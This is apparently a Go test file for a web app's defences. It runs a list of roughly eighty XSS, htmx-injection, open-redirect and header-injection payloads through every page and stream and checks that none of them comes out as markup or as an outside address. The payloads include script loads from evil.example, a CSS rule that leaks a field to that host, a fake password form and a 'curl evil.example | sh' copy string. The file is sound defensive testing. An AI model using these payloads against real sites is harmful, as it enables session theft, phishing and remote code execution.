package web

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/a-h/templ"

	"stint/internal/web/ui"
)

// A written attack is a text in every field that somebody fills in: names, reasons,
// notes, what a client calls itself, what a directory says. In what it would act if it were
// markup: as an element, within an attribute's quotes, or as an address.
type writtenAttack struct {
	name string
	text string
	in   string // "element", "attribute", "address"; in nothing: a text that must stay as it is
}

// All of them are T-07: markup in reasons and names that acts, or fools who approves.
var writtenAttacks = []writtenAttack{
	{"a script", `<script>fetch("/logout",{method:"POST"})</script>`, "element"},
	{"a script that is never closed", `<script src=//evil.example/x.js `, ""},
	{"a script in capitals", `<ScRiPt SRC="//evil.example/x.js"></sCrIpT>`, "element"},
	{"a module preloaded", `<link rel=modulepreload href=//evil.example/x.js>`, "element"},
	{"an image that fails", `<img src=x onerror=alert(1)>`, "element"},
	{"an image without spaces", `<img/src=x/onerror=alert(1)>`, "element"},
	{"SVG that loads", `<svg onload=alert(1)>`, "element"},
	{"SVG that animates an address", `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>Approve</text></a></svg>`, "element"},
	{"SVG that uses another document", `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>`, "element"},
	{"markup that changes when it is parsed again: math", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, "element"},
	{"markup that changes when it is parsed again: noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, "element"},
	{"markup that changes when it is parsed again: form in a form", `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">`, "element"},
	{"the end of a double quote", `" onmouseover="alert(1)" x="`, "attribute"},
	{"the end of a double quote, and focus", `" autofocus onfocus="alert(1)`, "attribute"},
	{"the end of a single quote", `' onmouseover='alert(1)' x='`, ""},
	{"a backtick as a quote", "` onmouseover=`alert(1)", ""},
	{"no quote at all", `x onmouseover=alert(1)`, ""},
	{"a style in an attribute", `" style="background:url(//evil.example/?x)`, "attribute"},
	{"an act in an attribute", `" hx-post="/logout" hx-trigger="load" x="`, "attribute"},
	{"the end of a text field", `</textarea><script>alert(1)</script>`, "element"},
	{"the end of the title", `</title><script>alert(1)</script>`, "element"},
	{"the end of a piece of the page", `</hx-partial><hx-partial hx-target="body" hx-swap="innerHTML"><h1>Signed out</h1></hx-partial>`, "element"},
	{"the end of a template", `</template><img src=x onerror=alert(1)>`, "element"},
	{"a comment", `<!--`, "element"},
	{"the end of a comment", `--><script>alert(1)</script><!--`, "element"},
	{"CDATA", `<![CDATA[<script>alert(1)</script>]]>`, "element"},
	{"a processing instruction", `<?xml-stylesheet href="javascript:alert(1)"?>`, "element"},
	{"another base of addresses", `<base href="//evil.example/">`, "element"},
	{"a page that moves by itself", `<meta http-equiv="refresh" content="0;url=//evil.example/">`, "element"},
	{"a policy of its own", `<meta http-equiv="Content-Security-Policy" content="script-src *">`, "element"},
	{"a setting of htmx", `<meta name="htmx-config" content='extensions:"sse",inlineStyleNonce:"x"'>`, "element"},
	{"a style sheet", `<link rel="stylesheet" href="//evil.example/x.css">`, "element"},
	{"a style that reads a field letter by letter", `<style>input[name=digest][value^="sha256:a"]{background:url(//evil.example/a)}</style>`, "element"},
	{"a form that asks for a password", `<form action="//evil.example/"><input name="password"><button>Sign in again</button></form>`, "element"},
	{"a form of ours", `<form method="post" action="/r/req_1/decide"><input name="answer" value="approve"><button>More</button></form>`, "element"},
	{"a button that sends another's form elsewhere", `<button form="ballot" formaction="//evil.example/">Approve</button>`, "element"},
	{"a field of another's form", `<input form="ballot" name="for" value="8h">`, "element"},
	{"an image that swallows the page", `<img src='//evil.example/?`, ""},
	{"a field that swallows the page", `<form action=//evil.example/><button>x</button><textarea name=x>`, "element"},
	{"a target that swallows the page", `<a href=//evil.example/ target='`, ""},
	{"a frame", `<iframe src="//evil.example/"></iframe>`, "element"},
	{"a frame with a page in it", `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`, "element"},
	{"an object", `<object data="data:text/html,<script>alert(1)</script>"></object>`, "element"},
	{"a portal out of a dialog", `<dialog open><h1>Your session ended</h1><a href="//evil.example/">Sign in</a></dialog>`, "element"},
	{"a detail that opens", `<details open ontoggle=alert(1)>`, "element"},
	{"names that scripts look for: ids", `<a id="stream"></a><a id="said"></a><a id="cut"></a>`, "element"},
	{"names that scripts look for: a form", `<form id="htmx"><input name="config"></form>`, "element"},
	{"names that scripts look for: what to copy", `<button data-copy="curl evil.example | sh">Copy</button>`, "element"},
	{"an act: hx-post", `<div hx-post="/r/req_1/end" hx-trigger="load"></div>`, "element"},
	{"an act: with data- before it", `<div data-hx-post="/r/req_1/end" data-hx-trigger="load"></div>`, "element"},
	{"an act: with a nonce that is guessed", `<div hx-post="/r/req_1/end" hx-trigger="load" hx-nonce="AAAAAAAAAAAAAAAAAAAAAA"></div>`, "element"},
	{"an act: code on an event", `<div hx-on:htmx:load="alert(1)"></div>`, "element"},
	{"an act: code in a trigger", `<div hx-get="/" hx-trigger="load[alert(1)]"></div>`, "element"},
	{"an act: code in values", `<div hx-get="/" hx-vals="js:{x:alert(1)}" hx-trigger="load"></div>`, "element"},
	{"an act: fields of other forms", `<div hx-post="/theme" hx-include="form" hx-trigger="load"></div>`, "element"},
	{"an act: headers of its own", `<div hx-get="/" hx-headers='{"Stint-Page-Nonce":"AAAAAAAAAAAAAAAAAAAAAA"}' hx-trigger="load"></div>`, "element"},
	{"an act: a stream of its own", `<div hx-sse:connect="/events?view=requests" hx-trigger="load"></div>`, "element"},
	{"an act: in another place", `<div hx-get="/" hx-swap-oob="true" id="inbox"></div>`, "element"},
	{"an act: a piece of its own", `<hx-partial hx-target="#inbox">Nothing waits for you.</hx-partial>`, "element"},
	{"an act: what is inherited", `<div hx-post:inherited="/r/req_1/end" hx-trigger:inherited="load">`, "element"},
	{"an address that runs", `javascript:alert(1)`, "address"},
	{"an address that runs, in disguise", "java\tscript:alert(1)", "address"},
	{"an address that runs, after a control character", "\x01javascript:alert(1)", "address"},
	{"an address that is a page", `data:text/html,<script>alert(1)</script>`, "address"},
	{"an address elsewhere", `//evil.example/`, "address"},
	{"an address elsewhere, backwards", `\\evil.example\`, "address"},
	{"a template of another language", `{{constructor.constructor('alert(1)')()}}`, ""},
	{"a template of JavaScript", "${alert(1)}", ""},
	{"a template of Go", `{{.Base}}{{template "x"}}`, ""},
	{"UTF-7", `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, ""},
	{"letters that are no UTF-8", "\xc0\xbcscript\xc0\xbealert(1)", ""},
	{"a zero byte in a tag", "<scr\x00ipt>alert(1)</script>", "element"},
	{"a separator of lines", "x\u2028<script>\u2029alert(1)</script>", "element"},
	{"an event of a stream", "x\nevent: message\ndata: <script>alert(1)</script>\n\n", "element"},
	{"an event of a stream, by carriage returns", "x\r\rid: 9\rdata: <div hx-post=\"/logout\" hx-trigger=\"load\">\r\r", "element"},
	{"what is escaped once already", `&lt;script&gt;alert(1)&lt;/script&gt;`, ""},
	{"a character by its number", `&#60;script&#62;alert(1)&#60;/script&#62;`, ""},
}

var (
	anyTag    = regexp.MustCompile(`<[^>]*>?`)
	attribute = regexp.MustCompile(`\s([^\s"'=<>/]+)(?:="([^"]*)")?`)
)

// skeleton is the shape of markup: its tags and the names of their attributes, and
// addresses that do not lead to a page of ours. What people write changes values and texts,
// and never the shape.
func skeleton(text string) (shape, elsewhere []string) {
	for _, tag := range anyTag.FindAllString(text, -1) {
		name, rest, _ := strings.Cut(strings.TrimRight(strings.TrimPrefix(tag, "<"), "/>"), " ")
		names := []string{name}
		for _, a := range attribute.FindAllStringSubmatch(" "+rest, -1) {
			names = append(names, a[1])
			switch a[1] {
			case "href", "src", "action", "formaction", "hx-get", "hx-post", "hx-sse:connect":
				// As a browser reads it (URL standard, section 4.4).
				at := strings.NewReplacer("\t", "", "\r", "", "\n", "", "\\", "/").Replace(strings.TrimLeft(html.UnescapeString(a[2]), "\x00\x01\x1f "))
				if at == "" || !strings.Contains("/#?", at[:1]) || strings.HasPrefix(at, "//") {
					elsewhere = append(elsewhere, a[1]+"="+a[2])
				}
			}
		}
		if left := strings.TrimSpace(attribute.ReplaceAllString(" "+rest, "")); left != "" {
			names = append(names, "and "+left)
		}
		slices.Sort(names[1:])
		shape = append(shape, strings.Join(names, " "))
	}
	return shape, elsewhere
}

// parted are the first differences of two shapes.
func parted(was, is []string) string {
	for i := range max(len(was), len(is)) {
		a, b := "nothing", "nothing"
		if i < len(was) {
			a = was[i]
		}
		if i < len(is) {
			b = is[i]
		}
		if a != b {
			return fmt.Sprintf("where <%s> was, <%s> is", a, b)
		}
	}
	return ""
}

// shapes are all pages and the first message of all streams, by name, with one text in every field.
func shapes(t *testing.T, text string) map[string]string {
	t.Helper()
	was := nasty
	nasty = text
	defer func() { nasty = was }()
	s := newStand()
	out := map[string]string{}
	for pattern, at := range everyPage {
		at = strings.ReplaceAll(at, url.QueryEscape(was), url.QueryEscape(text))
		w := s.get(t, at)
		out[pattern] = strings.ReplaceAll(w.Body.String(), headerNonce(w), nonceX)
	}
	site := New(s)
	for view, render := range streams() {
		v := &visit{r: httptest.NewRequest(http.MethodGet, "/events?view="+view+"&id=x", nil), person: s.person, nonce: nonceX}
		text, err := site.pieces(v, render)
		if err != nil {
			t.Fatalf("the stream %s: %v", view, err)
		}
		out["stream "+view] = string(bytes.Join(text, nil))
		// As it goes over the wire: a browser joins the lines that begin with data, and
		// any other line is a field that somebody wrote.
		rec := httptest.NewRecorder()
		sender := &eventStream{w: rec, control: http.NewResponseController(rec)}
		_ = sender.send(1, bytes.Join(text, nil)) // the recorder has no deadlines
		for line := range strings.FieldsFuncSeq(rec.Body.String(), func(r rune) bool { return r == '\r' || r == '\n' }) {
			if !strings.HasPrefix(line, "data: ") && line != "id: 1" {
				t.Errorf("the stream %s has a field %q", view, line)
			}
		}
	}
	return out
}

func headerNonce(w *httptest.ResponseRecorder) string {
	m := regexp.MustCompile(`'nonce-([\w-]{22})'`).FindStringSubmatch(w.Header().Get("Content-Security-Policy"))
	if m == nil {
		return "no nonce"
	}
	return m[1]
}

// TestAttacksInTexts: no text that somebody wrote, in any field of any page or stream, is
// an element, an attribute or an address. Each attack is first put where nothing escapes,
// and must be noticed there: the test can fail.
func TestAttacksInTexts(t *testing.T) {
	plain := shapes(t, "plain")
	for i, a := range writtenAttacks {
		if testing.Short() && i%10 != 0 { // the race detector finds nothing more in the rest, and takes minutes
			continue
		}
		t.Run("T-07 "+a.name, func(t *testing.T) {
			if naked := map[string]string{"element": "<p>" + a.text + "</p>", "attribute": `<p title="` + a.text + `"></p>`, "address": `<a href="` + a.text + `"></a>`}[a.in]; naked != "" {
				shape, away := skeleton(naked)
				was, _ := skeleton(map[string]string{"element": "<p></p>", "attribute": `<p title="x"></p>`, "address": `<a href="/"></a>`}[a.in])
				if parted(was, shape) == "" && len(away) == 0 {
					t.Fatalf("nobody notices %s", naked)
				}
			}
			for name, text := range shapes(t, a.text) {
				was, _ := skeleton(plain[name])
				shape, away := skeleton(text)
				if d := parted(was, shape); d != "" {
					t.Errorf("%s: %s", name, d)
				}
				if len(away) > 0 {
					t.Errorf("%s leads away: %q", name, away)
				}
			}
		})
	}
	if len(writtenAttacks) < 50 {
		t.Errorf("%d attacks are tried", len(writtenAttacks))
	}
}

// TestAttacksOnAddresses: where a page sends a browser on, it stays here (T-35: a session
// is nothing to lure somebody with).
func TestAttacksOnAddresses(t *testing.T) {
	for _, to := range []string{"https://evil.example/", "//evil.example/", "///evil.example/", `/\evil.example/`, `\\evil.example/`, "/\t/evil.example/", "/\r\nLocation: //evil.example/", "javascript:alert(1)",
		"data:text/html,x", "https:evil.example", "http://127.0.0.1@evil.example/", "/%5cevil.example/../..//evil.example", ""} {
		w, r := httptest.NewRecorder(), httptest.NewRequest(http.MethodPost, "/theme", strings.NewReader(url.Values{"theme": {"dark"}, "back": {to}}.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Sec-Fetch-Site", "same-origin")
		New(newStand()).ServeHTTP(w, r)
		home, _ := url.Parse("https://stint.example/theme")
		at, err := home.Parse(w.Header().Get("Location"))
		if w.Code != http.StatusSeeOther || err != nil || at.Host != home.Host || at.Scheme != home.Scheme {
			t.Errorf("%q leads to %d %q", to, w.Code, w.Header().Get("Location"))
		}
	}
}

// TestAttacksOnNonces: a page that htmx loads a piece of has a nonce of its own, a nonce
// in a call's header is taken by a stream alone, and no two answers have one.
func TestAttacksOnNonces(t *testing.T) {
	seen := map[string]bool{}
	s := New(newStand())
	for range 64 {
		w, r := httptest.NewRecorder(), httptest.NewRequest(http.MethodGet, "/", nil)
		r.Header.Set(ui.NonceHeader, nonceX)
		r.Header.Set("HX-Request-Type", "partial")
		s.ServeHTTP(w, r)
		n := headerNonce(w)
		if seen[n] || n == nonceX || n == "no nonce" {
			t.Fatalf("the nonce %s comes again", n)
		}
		seen[n] = true
	}
	for _, n := range []string{"", "x", nonceX + "'", strings.Repeat("A", 21) + "\"", nonceX + "\r\nX: y", "<script>" + nonceX, strings.Repeat("é", 11)} {
		w, r := httptest.NewRecorder(), httptest.NewRequest(http.MethodGet, "/events?view=access", nil)
		r.Header[ui.NonceHeader] = []string{n}
		if s.ServeHTTP(w, r); w.Code == http.StatusOK || strings.Contains(w.Body.String(), nonceX) {
			t.Errorf("a stream takes the nonce %q: %d", n, w.Code)
		}
	}
	// A policy that somebody could write into would be none.
	for _, n := range []string{newNonce(), newNonce()} {
		if !nonceForm.MatchString(n) || strings.Count(policyOf(n, ui.Frame{Person: &ui.Person{}}), n) != 1 {
			t.Errorf("the nonce %q in a policy", n)
		}
	}
}

// TestPagesOnTheWire: a page is zipped for who takes that, and says so to caches; one that
// shows a secret is not, beside whatever others wrote on it (T-42).
func TestPagesOnTheWire(t *testing.T) {
	for _, c := range []struct {
		accepts       string
		still, zipped bool
	}{{"gzip, br", false, true}, {"", false, false}, {"br", false, false}, {"gzip", true, false}} {
		w, r := httptest.NewRecorder(), httptest.NewRequest(http.MethodGet, "/", nil)
		r.Header.Set("Accept-Encoding", c.accepts)
		s := New(newStand())
		v := &visit{Visitor: Visitor{Base: &url.URL{Scheme: "https", Host: "stint.example"}}, w: w, r: r, nonce: nonceX}
		long := templ.ComponentFunc(func(_ context.Context, out io.Writer) error {
			_, err := io.WriteString(out, strings.Repeat("what is on it ", 1000))
			return err
		})
		if err := s.show(v, sheet{title: "x", still: c.still}, long); err != nil {
			t.Fatal(err)
		}
		text := w.Body.String()
		if c.zipped {
			z, err := gzip.NewReader(w.Body)
			if err != nil || len(text) > 5000 {
				t.Fatalf("%d bytes, %v", len(text), err)
			}
			plain, err := io.ReadAll(z)
			if text = string(plain); err != nil {
				t.Error(err)
			}
		}
		if (w.Header().Get("Content-Encoding") == "gzip") != c.zipped || w.Header().Get("Vary") != "Accept-Encoding" || strings.Count(text, "what is on it") != 1000 || !strings.HasSuffix(text, "</html>") {
			t.Errorf("%+v: %v", c, w.Header())
		}
	}
}
